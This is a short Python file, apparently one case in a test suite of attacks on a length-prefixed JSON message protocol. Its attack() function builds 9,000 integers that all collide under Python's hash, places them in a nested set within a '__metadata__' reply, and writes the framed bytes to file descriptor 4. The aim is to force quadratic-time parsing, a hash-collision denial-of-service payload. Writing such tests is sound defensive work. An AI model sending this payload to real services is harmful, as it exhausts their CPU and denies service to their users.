"""Send a set of numbers that all hash alike: building it would take quadratic time."""

CLASS = "framing"
GAINS = ()


def attack():
    numbers = [{"value": place * ((1 << 61) - 1)} for place in range(9_000)]
    tree = {"dict": {"status": {"value": "value"}, "value": {"set": numbers}}}
    header = json.dumps({"__metadata__": {"kind": "reply", "tree": json.dumps(tree)}}).encode()
    raw = struct.pack("<QQ", 8 + len(header), len(header)) + header
    while raw:
        raw = raw[os.write(4, raw) :]
